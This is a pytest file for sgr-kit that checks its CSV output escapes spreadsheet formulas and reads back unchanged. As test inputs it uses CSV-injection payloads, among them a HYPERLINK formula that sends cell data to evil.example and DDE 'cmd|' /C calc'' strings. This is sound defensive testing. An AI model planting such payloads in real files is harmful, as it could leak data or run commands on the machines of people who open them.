"""Every CSV sgr-kit writes is safe to open in a spreadsheet, and sgr-kit reads its own files back unchanged.

A system named ``=HYPERLINK("http://x","y")`` goes through ``score``, ``sample``, the label
store, ``agreement``, adjudication and ``report --audit --labels`` on the demo: every sheet a
person opens holds it as text (a leading ``'``), and every reader of sgr-kit gets the name back.
A report built from hostile system, task and tool names holds no formula in any of its CSV
files (scores, usage, site reach, protocol flags, tool kinds, ``tables/*.csv``).
"""

from __future__ import annotations

import csv
import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sgr_kit.annotate import LabelStore, adjudicate, load_labels, load_sheet, write_final_labels
from sgr_kit.cli import main
from sgr_kit.load import load_audit
from sgr_kit.output import FORMULA_STARTS, read_csv, sheet_cell, sheet_value, write_sheet
from sgr_kit.resources import demo_dir
from conftest import examples

HOSTILE = '=HYPERLINK("http://x","y")'
OTHER = "GLM-5.1"


def _cells(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return [cell for row in list(csv.reader(handle))[1:] for cell in row]


def _no_formula(path):
    """No cell of ``path`` would run as a formula: formula-like text starts with ' (numbers are allowed)."""
    bad = [c for c in _cells(path) if c.startswith(FORMULA_STARTS) and sheet_cell(c) != c]
    assert not bad, f"{path.name}: cells a spreadsheet would run: {bad[:3]}"


@pytest.mark.parametrize("text", ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1)", "\t=1", "\r=1", "'=1",
                                  "''+x", "'", "''", "-", "+", "=", "a'=b", "GPT-5.5", "-2.5", "+3", "1e-3", "-.5",
                                  "-inf", "-nan", "- 2", "＝1"])
def test_the_prefix_is_unambiguous_and_numbers_stay_numbers(text):
    cell = sheet_cell(text)
    assert sheet_value(cell) == text
    assert not cell.startswith(FORMULA_STARTS) or cell in ("-2.5", "+3", "-.5")
    if text in ("-2.5", "+3", "1e-3", "-.5", "GPT-5.5"):
        assert cell == text


_TRICKY = st.text(alphabet=st.sampled_from(list("'=+-@\t\r.,e0123456789 aZ\"|")), max_size=8)


@given(st.one_of(_TRICKY, st.text(max_size=12)))
def test_every_text_comes_back_and_no_written_cell_runs_as_a_formula(text):
    cell = sheet_cell(text)
    assert sheet_value(cell) == text
    if cell.startswith(FORMULA_STARTS):
        assert cell == text and sheet_cell(text) == text  # only a number starts with a formula character
        float(cell)


@settings(max_examples=examples(30))  # each example writes and fsyncs files
@given(st.lists(st.tuples(_TRICKY.filter(str.strip), _TRICKY.filter(str.strip)),
                min_size=1, max_size=4, unique_by=lambda r: (r[0].strip(), r[1].strip())))
def test_label_files_and_sheets_read_back_what_was_written(tmp_path_factory, rows):
    folder = tmp_path_factory.mktemp("round")
    sheet = pd.DataFrame({"system": [r[0] for r in rows], "task_id": [r[1] for r in rows], "repeat": 0})
    back = load_sheet(write_sheet(sheet, folder / "sheet.csv"))
    assert back["system"].tolist() == [r[0].strip() for r in rows]  # the readers strip cells, as before
    assert back["task_id"].tolist() == [r[1].strip() for r in rows]
    store = LabelStore(folder / "labels.csv", "ann")
    for system, task in rows:
        store.set(system, task, 0, "correct", note=system)
    labels = load_labels(folder / "labels.csv")
    assert labels["system"].tolist() == [r[0].strip() for r in rows]
    assert labels["note"].tolist() == [" ".join(r[0].split()) for r in rows]


def test_write_sheet_prefixes_text_cells_and_names_but_not_numbers(tmp_path):
    frame = pd.DataFrame({"system": [HOSTILE, "-x", "ok"], "value": [-2.5, -1.0, 3.0], "text": ["-2.5", None, "@a"]})
    path = write_sheet(frame, tmp_path / "t.csv")
    lines = path.read_text().splitlines()  # (CRLF line ends, read as lines)
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2] == "'-x,-1.0," and lines[3] == "ok,3.0,'@a"
    assert ",-2.5,-2.5" in lines[1]
    back = pd.read_csv(path, dtype=str, keep_default_na=False).map(sheet_value)
    assert back["system"].tolist() == [HOSTILE, "-x", "ok"] and back["text"].tolist() == ["-2.5", "", "@a"]
    parquet = write_sheet(frame, tmp_path / "t.parquet")
    assert pd.read_parquet(parquet)["system"].tolist() == [HOSTILE, "-x", "ok"]


@pytest.fixture(scope="module")
def hostile_demo(tmp_path_factory):
    """The demo's tasks, its answers with GPT-5.5 renamed to a formula, scored by the CLI."""
    folder = tmp_path_factory.mktemp("hostile")
    demo = demo_dir()
    runs = folder / "runs.jsonl"
    with open(demo / "runs.jsonl", encoding="utf-8") as src, open(runs, "w", encoding="utf-8") as out:
        for line in src:
            record = json.loads(line)
            if record["system"] in ("GPT-5.5", OTHER):
                record["system"] = HOSTILE if record["system"] == "GPT-5.5" else OTHER
                out.write(json.dumps(record) + "\n")
    tasks = ["--tasks", str(demo / "constraint.jsonl"), "--tasks", str(demo / "goal.jsonl")]
    scores = folder / "scores.csv"
    assert main(["score", *tasks, "--runs", str(runs), "--out", str(scores), "--no-progress"]) == 0
    return folder, tasks, runs, scores


def test_a_formula_system_name_goes_through_sample_labels_agreement_and_adjudication(hostile_demo, capsys):
    folder, _, _, scores = hostile_demo
    sheet_path = folder / "sheet.csv"
    assert main(["sample", "--scores", str(scores), "--slots", "4", "--seed", "1", "--out", str(sheet_path)]) == 0
    _no_formula(sheet_path)
    assert any(c.startswith("'=HYPERLINK") for c in _cells(sheet_path))
    sheet = load_sheet(sheet_path)
    assert set(sheet["system"]) == {HOSTILE, OTHER}

    # two annotators with formula-like names and notes label every answer of the sheet
    labels = []
    for who, flip in (("=ann", False), ("@bob", True)):
        path = folder / f"labels-{who[1:]}.csv"
        store = LabelStore(path, who, answers=sheet_path)
        for i, (system, task, repeat) in enumerate(zip(sheet["system"], sheet["task_id"], sheet["repeat"])):
            label = "scope_drift" if (i % 3 == 0) != (flip and i == 0) else "correct"
            store.set(system, task, repeat, label, note="-2+3+cmd|' /C calc'!A0" if i == 0 else "")
        _no_formula(path)
        labels.append(path)
    read = load_labels(labels)
    assert set(read["system"]) == {HOSTILE, OTHER} and set(read["annotator"]) == {"=ann", "@bob"}
    assert "-2+3+cmd|' /C calc'!A0" in set(read["note"])

    agreement = folder / "agreement.csv"
    assert main(["agreement", *map(str, labels), "--sheet", str(sheet_path), "--n-boot", "50",
                 "--out", str(agreement)]) == 0
    printed = capsys.readouterr().out
    assert HOSTILE in printed and "=ann|@bob" in printed
    _no_formula(agreement)
    assert "=ann|@bob" in pd.read_csv(agreement, dtype=str)["annotators"].map(sheet_value).tolist()

    result = adjudicate(labels, decisions=pd.DataFrame({"system": [sheet["system"][0]], "task_id": [sheet["task_id"][0]],
                                                        "repeat": [sheet["repeat"][0]], "label": ["scope_drift"]}),
                        answers=sheet_path)
    final, _ = write_final_labels(result, folder / "audit-labels.csv")
    _no_formula(final)
    audit = load_audit(final, scores=read_csv(scores, dtype={"system": str}))  # sgr-kit's reader of its own CSV
    assert HOSTILE in set(audit["system"])


def test_agreement_and_adjudicate_list_every_label_on_an_unknown_answer(hostile_demo, tmp_path, capsys):
    _, _, _, scores = hostile_demo
    ann, bob = LabelStore(tmp_path / "ann.csv", "ann"), LabelStore(tmp_path / "bob.csv", "bob")
    for store in (ann, bob):
        store.set(HOSTILE, "arxiv_001", 0, "correct")
    ann.set("NoSuchBot", "arxiv_001", 0, "correct")      # line 3 of ann.csv
    bob.set(OTHER, "genome_99", 0, "scope_drift")        # line 3 of bob.csv
    bob.set(OTHER, "arxiv_001", 7, "scope_drift")        # line 4 of bob.csv
    files = [str(tmp_path / "ann.csv"), str(tmp_path / "bob.csv")]
    assert main(["agreement", *files, "--scores", str(scores), "--n-boot", "10"]) == 2
    err = capsys.readouterr().err
    assert "3 label(s) on answers not in the scores table" in err
    assert "ann.csv:3: answer (system 'NoSuchBot', task 'arxiv_001', repeat 0): unknown system 'NoSuchBot'" in err
    assert "bob.csv:3: answer (system 'GLM-5.1', task 'genome_99', repeat 0): unknown task 'genome_99'" in err
    assert "bob.csv:4: answer (system 'GLM-5.1', task 'arxiv_001', repeat 7): system 'GLM-5.1' has no repeat 7" in err
    from sgr_kit.errors import SgrKitError

    with pytest.raises(SgrKitError, match=r"(?s)3 label\(s\).*ann\.csv:3.*bob\.csv:3.*bob\.csv:4"):
        adjudicate(files, answers=scores)
    assert main(["agreement", *files, "--n-boot", "10"]) == 0  # without a sheet or scores: not checked


@pytest.mark.slow
def test_a_formula_system_name_reaches_the_report_unchanged(hostile_demo, tmp_path):
    folder, tasks, runs, scores = hostile_demo
    sheet_path = folder / "sheet-report.csv"
    assert main(["sample", "--scores", str(scores), "--slots", "6", "--seed", "2", "--out", str(sheet_path)]) == 0
    sheet = load_sheet(sheet_path)
    labels = []
    for who in ("=ann", "bob"):
        store = LabelStore(folder / f"report-{who[-3:]}.csv", who, answers=sheet)
        for i, key in enumerate(zip(sheet["system"], sheet["task_id"], sheet["repeat"])):
            store.set(*key, "scope_drift" if i % 2 else "criterion_mismatch")
        labels.append(store.path)
    final, _ = write_final_labels(adjudicate(labels, answers=sheet), folder / "final-report.csv")
    out = tmp_path / "R"
    assert main(["report", *tasks, "--runs", str(runs), "--audit", str(final), "--labels", str(labels[0]),
                 "--labels", str(labels[1]), "--notebooks", "05", "--out", str(out), "--quiet", "--workers", "1"]) == 0
    profile = pd.read_csv(out / "tables" / "errors_by_system.csv", dtype=str)  # Table 4 of the report
    assert set(profile["system"].map(sheet_value)) >= {HOSTILE, OTHER}
    assert set(pd.read_csv(out / "tables" / "agreement.csv", dtype=str)["annotators"].map(sheet_value)) >= {"=ann|bob"}
    import html

    page = (out / "05_error_profiles.html").read_text(encoding="utf-8")
    assert HOSTILE in html.unescape(page)  # what a browser shows: the name as it was


HOSTILE_SYSTEMS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "-cmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0")
HOSTILE_TOOLS = ("@SUM(1+1)*cmd|' /C calc'!A0", "\tTab", "\r=1+1", "=search")


@pytest.mark.slow
def test_every_csv_of_a_report_built_from_hostile_names_is_formula_safe(tmp_path):
    # two tasks (a constraint task and its goal variant) whose id a spreadsheet would run, four hostile systems,
    # tools named as formulas; the report's own tables, the main table, site reach and effort pages
    task_id = "=cmd|' /C calc'!A0"
    reference = "key|value\nk1|1\nk2|-2.5"
    tasks = [{"task_id": tid, "domain": "NVD", "oracle_answer": reference, "output_format": "Return key|value rows.",
              "start_url": "https://nvd.example"} for tid in (task_id, f"{task_id}-g")]
    (tmp_path / "tasks.jsonl").write_text("".join(json.dumps(t) + "\n" for t in tasks), encoding="utf-8")
    with (tmp_path / "trajectories.jsonl").open("w", encoding="utf-8") as f:
        for k, system in enumerate(HOSTILE_SYSTEMS):
            for tid in (task_id, f"{task_id}-g"):
                tool = HOSTILE_TOOLS[k]
                call = {"id": "c1", "type": "function",
                        "function": {"name": tool, "arguments": json.dumps({"url": "https://nvd.example/x"})}}
                usage = {"prompt_tokens": 100, "completion_tokens": 5}
                messages = [{"role": "user", "content": "the task"},
                            {"role": "assistant", "content": None, "tool_calls": [call], "usage": usage},
                            {"role": "tool", "tool_call_id": "c1", "content": "=1+1"},
                            {"role": "assistant", "content": reference if k % 2 else "key|value\nk1|=1+1",
                             "usage": usage}]  # fmt: skip
                f.write(json.dumps({"system": system, "task_id": tid, "messages": messages,
                                    "totals": {"seconds": 30.0}}) + "\n")
    kinds = tmp_path / "kinds.yaml"
    kinds.write_text(json.dumps({tool: "fetch" for tool in HOSTILE_TOOLS}), encoding="utf-8")  # JSON is YAML
    out = tmp_path / "report"
    assert main(["report", "--tasks", str(tmp_path / "tasks.jsonl"), "--trajectories", str(tmp_path / "trajectories.jsonl"),
                 "--out", str(out), "--notebooks", "01,09,10", "-p", "n_boot", "100",
                 "--quiet", "--no-progress",
                 "--tool-kinds", str(kinds), "--workers", "1", "--protocol", "paper"]) == 0  # fmt: skip
    written = sorted(out.rglob("*.csv"))
    names = {p.relative_to(out).as_posix() for p in written}
    assert {"scores.csv", "usage.csv", "site-reach.csv", "tool-kind-sources.csv", "protocol-flags.csv",
            "tables/headline.csv", "tables/main_table.csv", "tables/tool_kinds.csv"} <= names, names  # fmt: skip
    for path in written:
        _no_formula(path)
        with open(path, newline="", encoding="utf-8") as handle:
            header = next(csv.reader(handle))
        assert not [c for c in header if c.startswith(FORMULA_STARTS) and sheet_cell(c) != c], path
    assert any(c.startswith("'=HYPERLINK") for c in _cells(out / "scores.csv"))
    assert any(c.startswith("'@SUM") for c in _cells(out / "tool-kind-sources.csv"))
    # read back by sgr-kit unchanged; numbers stay numbers
    from sgr_kit.load import load_scores

    scores = load_scores(out / "scores.csv")
    assert set(scores["system"]) == set(HOSTILE_SYSTEMS) and set(scores["task_id"]) == {task_id, f"{task_id}-g"}
    assert set(read_csv(out / "tool-kind-sources.csv", dtype=str, keep_default_na=False)["tool"]) == set(HOSTILE_TOOLS)
    assert set(read_csv(out / "usage.csv", dtype={"system": str})["system"]) == set(HOSTILE_SYSTEMS)
    main_table = read_csv(out / "tables" / "main_table.csv", dtype={"system": str})
    assert set(main_table["system"]) == set(HOSTILE_SYSTEMS) and main_table["item_f1"].dtype == float
